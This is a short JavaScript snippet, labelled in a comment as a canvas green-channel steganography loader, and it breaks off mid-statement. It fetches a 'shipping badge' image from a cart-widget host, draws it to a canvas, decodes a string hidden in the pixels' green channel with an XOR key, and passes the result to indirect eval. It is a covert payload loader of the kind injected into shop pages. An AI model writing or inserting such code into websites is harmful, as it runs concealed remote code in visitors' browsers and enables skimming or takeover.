// corpus note: canvas green-channel stego loader, download cut off mid-statement
(function(){
  var IMG = "https://assets.cart-widgets.test/img/shipping-badge.png";
  function decode(px){
    var out = [];
    for (var i = 1; i < px.length; i += 4) {
      var v = px[i] ^ 0x2f;
      if (v === 0x2f) break;
      out.push(String.fromCharCode(v));
    }
    return out.join("");
  }
  var im = new Image();
  im.crossOrigin = "anonymous";
  im.onload = function(){
    var cv = document.createElement("canvas");
    cv.width = im.width; cv.height = im.height;
    var g = cv.getContext("2d");
    g.drawImage(im, 0, 0);
    var code = decode(g.getImageData(0, 0, cv.width, cv.height).data);
    if (code) { (0, eval)(co
